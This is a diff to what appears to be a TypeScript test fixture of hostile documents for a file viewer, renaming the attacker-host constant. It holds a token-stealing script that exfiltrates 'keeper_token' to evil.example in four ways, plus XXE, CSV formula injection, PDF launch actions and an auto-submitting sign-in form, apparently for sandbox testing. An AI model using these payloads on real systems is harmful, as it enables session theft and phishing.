@@ -4,12 +4,12 @@ export interface HostileDocument {
   bytes: Buffer
 }
 
-const away = 'https://evil.example'
+const evilOrigin = 'https://evil.example'
 /** Reports that it ran and what the browser stores for Keeper, then sends it away in five ways. */
-const steal = `(()=>{const h=[self,self.top,self.parent,self.opener].map(w=>{try{return w&&w.gateHears}catch{}}).find(Boolean)||(()=>{});h('ran '+location.protocol);let t;try{t=localStorage.getItem('keeper_token')||''}catch{t=''}try{t=t||top.localStorage.getItem('keeper_token')||''}catch{}try{t=t||opener.localStorage.getItem('keeper_token')||''}catch{}if(t){h('token '+t);try{indexedDB.databases().then(d=>h('databases '+d.map(x=>x.name)))}catch{}try{fetch('${away}/?f='+t)}catch{}try{new Image().src='${away}/?i='+t}catch{}try{navigator.sendBeacon('${away}/?b='+t)}catch{}try{new WebSocket('wss://evil.example/?w='+t)}catch{}}})()`
+const steal = `(()=>{const h=[self,self.top,self.parent,self.opener].map(w=>{try{return w&&w.gateHears}catch{}}).find(Boolean)||(()=>{});h('ran '+location.protocol);let t;try{t=localStorage.getItem('keeper_token')||''}catch{t=''}try{t=t||top.localStorage.getItem('keeper_token')||''}catch{}try{t=t||opener.localStorage.getItem('keeper_token')||''}catch{}if(t){h('token '+t);try{indexedDB.databases().then(d=>h('databases '+d.map(x=>x.name)))}catch{}try{fetch('${evilOrigin}/?f='+t)}catch{}try{new Image().src='${evilOrigin}/?i='+t}catch{}try{navigator.sendBeacon('${evilOrigin}/?b='+t)}catch{}try{new WebSocket('wss://evil.example/?w='+t)}catch{}}})()`
 const quoted = steal.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;')
 const cdata = `<![CDATA[${steal}]]>`
-const remote = `<img src="${away}/i.png"><link rel=stylesheet href="${away}/s.css"><link rel=prefetch href="${away}/p"><style>@import "${away}/a.css";*{background:url(${away}/u.png)}</style><video src="${away}/v" autoplay></video><iframe src="${away}/f"></iframe><object data="${away}/o"></object><embed src="${away}/e">`
+const remote = `<img src="${evilOrigin}/i.png"><link rel=stylesheet href="${evilOrigin}/s.css"><link rel=prefetch href="${evilOrigin}/p"><style>@import "${evilOrigin}/a.css";*{background:url(${evilOrigin}/u.png)}</style><video src="${evilOrigin}/v" autoplay></video><iframe src="${evilOrigin}/f"></iframe><object data="${evilOrigin}/o"></object><embed src="${evilOrigin}/e">`
 const svg = (inner: string, attributes = '') =>
   `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="80" height="80" ${attributes}>${inner}</svg>`
 const html = (inner: string) =>
@@ -17,7 +17,7 @@ const html = (inner: string) =>
 
 const pdf = (catalog: string, page = '') =>
   `%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R ${catalog}>>endobj\n2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]${page}>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`
-const inPdf = `app.launchURL\\("${away}/js"\\);this.submitForm\\("${away}/form"\\);`
+const inPdf = `app.launchURL\\("${evilOrigin}/js"\\);this.submitForm\\("${evilOrigin}/form"\\);`
 const link = (action: string) => `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<<${action}>>>>]`
 
 function png(text: string): Buffer {
@@ -48,13 +48,15 @@ const texts: [name: string, type: string, text: string][] = [
   [
     'refresh.html',
     'text/html',
-    html(`<meta http-equiv=refresh content="0;url=${away}/?r"><base href="${away}/"><a href=/x autofocus>x</a>`),
+    html(
+      `<meta http-equiv=refresh content="0;url=${evilOrigin}/?r"><base href="${evilOrigin}/"><a href=/x autofocus>x</a>`,
+    ),
   ],
   [
     'form.html',
     'text/html',
     html(
-      `<form id=f action="${away}/form"><input name=t value=1><button autofocus>Sign in again</button></form><script>f.submit()</script>`,
+      `<form id=f action="${evilOrigin}/form"><input name=t value=1><button autofocus>Sign in again</button></form><script>f.submit()</script>`,
     ),
   ],
   [
@@ -72,7 +74,7 @@ const texts: [name: string, type: string, text: string][] = [
   [
     'module.html',
     'text/html',
-    html(`<script type=module>${steal}</script><script type=importmap>{"imports":{"a":"${away}/m.js"}}</script>`),
+    html(`<script type=module>${steal}</script><script type=importmap>{"imports":{"a":"${evilOrigin}/m.js"}}</script>`),
   ],
   [
     'page.xhtml',
@@ -85,7 +87,7 @@ const texts: [name: string, type: string, text: string][] = [
     'remote.svg',
     'image/svg+xml',
     svg(
-      `<image href="${away}/i.png" width="9" height="9"/><use href="${away}/u.svg#a"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${away}/f"/></foreignObject>`,
+      `<image href="${evilOrigin}/i.png" width="9" height="9"/><use href="${evilOrigin}/u.svg#a"/><foreignObject width="9" height="9"><iframe xmlns="http://www.w3.org/1999/xhtml" src="${evilOrigin}/f"/></foreignObject>`,
     ),
   ],
   [
@@ -99,22 +101,22 @@ const texts: [name: string, type: string, text: string][] = [
   [
     'sheet.xml',
     'application/xml',
-    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${away}/x.xsl"?><!DOCTYPE a [<!ENTITY e SYSTEM "${away}/entity">]><a>&e;<script xmlns="http://www.w3.org/1999/xhtml">${cdata}</script></a>`,
+    `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${evilOrigin}/x.xsl"?><!DOCTYPE a [<!ENTITY e SYSTEM "${evilOrigin}/entity">]><a>&e;<script xmlns="http://www.w3.org/1999/xhtml">${cdata}</script></a>`,
   ],
   [
     'notes.md',
     'text/markdown',
-    `harmless words\n\n![x](${away}/m.png)\n\n[press](javascript:${steal})\n\n<script>${steal}</script>\n\n${remote}`,
+    `harmless words\n\n![x](${evilOrigin}/m.png)\n\n[press](javascript:${steal})\n\n<script>${steal}</script>\n\n${remote}`,
   ],
   [
     'table.csv',
     'text/csv',
-    `a,b\n=HYPERLINK("${away}/csv"),<img src=x onerror="${steal.replaceAll('"', '""')}">\n=WEBSERVICE("${away}/w"),@SUM(1)\n`,
+    `a,b\n=HYPERLINK("${evilOrigin}/csv"),<img src=x onerror="${steal.replaceAll('"', '""')}">\n=WEBSERVICE("${evilOrigin}/w"),@SUM(1)\n`,
   ],
   [
     'letter.rtf',
     'application/rtf',
-    `{\\rtf1 harmless {\\field{\\*\\fldinst INCLUDEPICTURE "${away}/rtf.png"}}{\\object\\objautlink\\objupdate{\\*\\objdata 01}}<script>${steal}</script>}`,
+    `{\\rtf1 harmless {\\field{\\*\\fldinst INCLUDEPICTURE "${evilOrigin}/rtf.png"}}{\\object\\objautlink\\objupdate{\\*\\objdata 01}}<script>${steal}</script>}`,
   ],
   [
     'data.json',
@@ -123,7 +125,7 @@ const texts: [name: string, type: string, text: string][] = [
   ],
   ['words.txt', 'text/plain', html(`<script>${steal}</script>`)],
   ['program.js', 'text/javascript', steal],
-  ['sheet.css', 'text/css', `@import "${away}/css";*{background:url(${away}/c.png)}`],
+  ['sheet.css', 'text/css', `@import "${evilOrigin}/css";*{background:url(${evilOrigin}/c.png)}`],
   [
     'javascript.pdf',
     'application/pdf',
@@ -132,10 +134,14 @@ const texts: [name: string, type: string, text: string][] = [
   [
     'links.pdf',
     'application/pdf',
-    pdf('/AA<</WC<</S/JavaScript/JS(app.alert\\(1\\))>>>>', link(`/S/URI/URI(${away}/uri)`)),
+    pdf('/AA<</WC<</S/JavaScript/JS(app.alert\\(1\\))>>>>', link(`/S/URI/URI(${evilOrigin}/uri)`)),
   ],
-  ['launch.pdf', 'application/pdf', pdf(`/OpenAction<</S/Launch/F(${away}/launch)>>`, link('/S/Launch/F(cmd.exe)'))],
-  ['submit.pdf', 'application/pdf', pdf('/AcroForm<</Fields[]>>', link(`/S/SubmitForm/F(${away}/submit)`))],
+  [
+    'launch.pdf',
+    'application/pdf',
+    pdf(`/OpenAction<</S/Launch/F(${evilOrigin}/launch)>>`, link('/S/Launch/F(cmd.exe)')),
+  ],
+  ['submit.pdf', 'application/pdf', pdf('/AcroForm<</Fields[]>>', link(`/S/SubmitForm/F(${evilOrigin}/submit)`))],
   ['page-in.pdf', 'application/pdf', `%PDF-1.4\n${html(`<script>${steal}</script>`)}`],
 ]
 
